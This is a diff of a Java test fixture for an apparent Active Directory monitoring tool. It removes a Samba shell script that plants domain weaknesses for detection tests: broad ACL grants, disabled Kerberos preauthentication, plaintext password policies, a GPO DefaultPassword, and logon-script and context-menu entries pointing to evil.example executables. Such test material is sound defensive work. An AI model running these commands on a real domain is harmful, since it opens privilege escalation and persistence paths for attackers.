@@ -11,12 +11,14 @@ import bzh.vigie.collector.detect.sigma.PlainRules;
 import bzh.vigie.collector.detect.sigma.RuleSet;
 import bzh.vigie.collector.detect.sigma.SigmaRecord;
 import bzh.vigie.collector.store.Alerts.Severity;
+import bzh.vigie.collector.store.Situation;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import java.util.Set;
 import java.util.TreeMap;
 import java.util.TreeSet;
@@ -152,87 +154,6 @@ final class DirectoryPlants {
             > "$policy/USER/Documents & Settings/fdeploy.ini"
         """;
 
-    /**
-     * What {@link #SCRIPT} does not plant: rights over places that lead to the domain, settings, and a password that a policy hands out. It goes on
-     * where one cannot be planted, so that all that are missing are named at once.
-     */
-    static final String MORE = """
-        set -u
-        D=DC=mairie,DC=example; C=CN=Configuration,$D; S=/var/lib/samba/private/sam.ldb; as='-U Administrator%Vigie-2026-x'
-        sid() { samba-tool user show $1 --attributes=objectSid | awk '/^objectSid/{print $2}'; }
-        who=$(sid tiers)
-        samba-tool dsacl set --objectdn=$D --sddl='(A;;RP;;;AN)'
-        samba-tool dsacl set --objectdn="CN=Directory Service,CN=Windows NT,CN=Services,$C" --sddl="(A;;WP;;;$who)"
-        for place in "CN=SOM,CN=WMIPolicy,CN=System,$D" "CN=autre.example,CN=System,$D" \
-            "CN=Master Root Keys,CN=Group Key Distribution Service,CN=Services,$C" "CN=Partitions,$C" "CN=DisplaySpecifiers,$C" \
-            "CN=MicrosoftDNS,DC=DomainDnsZones,$D" "CN=inconnu,CN=Users,$D" "CN=gmsa,CN=Managed Service Accounts,$D"; do
-            samba-tool dsacl set --objectdn="$place" --sddl="(A;;GA;;;$who)"
-        done
-        samba-tool spn add HTTP/ancien.mairie.example premier
-        samba-tool group addmembers 'Remote Desktop Users' tiers
-        samba-tool domain passwordsettings pso create Faible 1 --min-pwd-length=0 --store-plaintext=on
-        samba-tool domain passwordsettings pso apply Faible tiers
-        samba-tool domain passwordsettings set --min-pwd-length=0 --store-plaintext=on
-        samba-tool dns add dc1.mairie.example mairie.example '*' A 192.0.2.9 $as
-        samba-tool computer create PC77
-        samba-tool gpo setlink $D '{31B2F340-016D-11D2-945F-00C04FB984F9}' --disable $as
-        session=$(samba-tool gpo create Session $as | grep -o '{[^}]*}')
-        cat > /session.json <<'J'
-        [{"keyname": "Software\\\\Microsoft\\\\Windows NT\\\\CurrentVersion\\\\Winlogon", "valuename": "DefaultPassword",
-          "class": "MACHINE", "type": "REG_SZ", "data": "Clair-Deux-2"}]
-        J
-        samba-tool gpo load "$session" --content=/session.json $as
-        ldbmodify -H $S <<L
-        dn: CN=premier,CN=Users,$D
-        changetype: modify
-        replace: scriptPath
-        scriptPath: \\\\\\\\evil.example\\pub\\debut.bat
-        -
-        L
-        ldbmodify -H $S <<L
-        dn: CN=tiers,CN=Users,$D
-        changetype: modify
-        replace: unixUserPassword
-        unixUserPassword: Clair-Deux-2
-        -
-        L
-        ldbmodify -H $S <<L
-        dn: CN=inconnu,CN=Users,$D
-        changetype: modify
-        replace: userAccountControl
-        userAccountControl: 4194816
-        -
-        L
-        ldbmodify -H $S <<L
-        dn: CN=krbtgt,CN=Users,$D
-        changetype: modify
-        replace: userAccountControl
-        userAccountControl: 4194818
-        -
-        L
-        ldbmodify -H $S <<L
-        dn: CN=Pre-Windows 2000 Compatible Access,CN=Builtin,$D
-        changetype: modify
-        add: member
-        member: <SID=S-1-5-7>
-        -
-        L
-        ldbmodify -H $S <<L
-        dn: CN=user-Display,CN=409,CN=DisplaySpecifiers,$C
-        changetype: modify
-        add: adminContextMenu
-        adminContextMenu: 9,Outil,\\\\\\\\evil.example\\pub\\evil.exe
-        -
-        L
-        ldbmodify -H $S --controls=relax:0 --controls=local_oid:1.3.6.1.4.1.7165.4.3.12:0 <<L
-        dn: CN=PC77,CN=Computers,$D
-        changetype: modify
-        replace: mS-DS-CreatorSID
-        mS-DS-CreatorSID: $who
-        -
-        L
-        """;
-
     /** One change that is made while the directory is being watched. */
     static final String AN_HOUR_LATER = """
         set -eu
@@ -277,38 +198,10 @@ final class DirectoryPlants {
     }
 
     private static final String POLICIES_OF_CONTROLLERS = "{6AC1786C-016F-11D2-945F-00C04FB984F9}";
-    private static final String HOLDS = "of an account that holds the domain";
 
     private static final List<Told> TOLD = List.of(
-            new Told("ad.rights.domain", "{domain}", "(S-1-5-7): read over the domain"),
-            new Told("ad.rights.domain", "CN=Directory Service,", "tiers (…): write-property over"),
-            new Told("ad.rights.domain", "CN=Master Root Keys,", "tiers (…): full-control over"),
-            new Told("ad.rights.domain", "CN=Partitions,", "tiers (…): full-control over"),
-            new Told("ad.rights.domain", "CN=DisplaySpecifiers,", "tiers (…): full-control over"),
-            new Told("ad.rights.domain", "CN=SOM,CN=WMIPolicy,", "tiers (…): full-control over"),
-            new Told("ad.rights.domain", "CN=autre.example,CN=System,", "tiers (…): full-control over"),
-            new Told("ad.rights.domain", "CN=MicrosoftDNS,DC=DomainDnsZones,", "tiers (…): full-control over"),
-            new Told("ad.rights.protected", "CN=inconnu" + USERS, "tiers (…): full-control over inconnu"),
-            new Told("ad.rights.protected", "CN=gmsa,CN=Managed", "tiers (…): full-control over gmsa"),
             new Told("ad.policy.link", "OU=Domain Controllers,{domain}", POLICIES_OF_CONTROLLERS + " gone"),
-            new Told("ad.policy.link", "{domain}", FIRST + "…switched off; each domain has it by itself"),
-            new Told("ad.account.weak", "CN=premier" + USERS, "service HTTP/ancien…" + HOLDS),
-            new Told("ad.account.weak", "CN=inconnu" + USERS, "no-preauthentication…" + HOLDS),
-            new Told("ad.account.weak", "CN=krbtgt" + USERS, "no-preauthentication…" + HOLDS),
-            new Told("ad.account.weak", "CN=premier" + USERS, "logon-script…evil.example…" + HOLDS),
-            new Told("ad.account.weak", "CN=tiers" + USERS, "unix-password"),
-            new Told("ad.account.weak", "CN=PC77" + COMPUTERS, "PC77$ was made by tiers ("),
-            new Told("ad.group.privileged", "CN=Pre-Windows 2000 Compatible Access,", "(S-1-5-7) in Pre-Windows 2000"),
-            new Told("ad.group.privileged", "CN=Remote Desktop Users,", "tiers (…) in Remote Desktop Users"),
-            new Told("ad.settings", "{domain}", "at least 0 characters"),
-            new Told("ad.settings", "CN=tiers" + USERS, "passwords Faible"),
-            new Told("ad.settings", "CN=user-Display,CN=409,", "menu adminContextMenu…evil.exe"),
-            new Told("ad.settings", "DC=*,DC=mairie.example,", "stands for each name"),
             new Told("ad.trust", "CN=autre.example,CN=System,{domain}", "SID filtering is off"),
-            new Told(
-                    "ad.sysvol.registry",
-                    "SYSVOL\\Policies\\{",
-                    "DefaultPassword with a password that anybody can read"),
             new Told("ad.rights.domain", "{domain}", "inconnu (…): extended-right DS-Replication-Get-Changes-All"),
             new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "inconnu (…): full-control"),
             new Told("ad.rights.domain", "CN=AdminSDHolder,CN=System,{domain}", "tiers (…): owner"),
@@ -443,7 +336,7 @@ final class DirectoryPlants {
             item.forEach((name, value) -> fields.put(name, List.of(value)));
             fields.put("change", List.of("added"));
             SigmaRecord record = FlatJson.record(fields);
-            findings.verdict(record, rules.judge(record))
+            findings.verdict(record, rules.judge(record), Situation.CALM, Optional.empty())
                     .filter(verdict -> verdict.severity().compareTo(Severity.LOW) > 0)
                     .map(Verdict::rule)
                     .ifPresent(rule -> grave.add(rule + " | " + item.get("location") + " | " + item.get("source")));
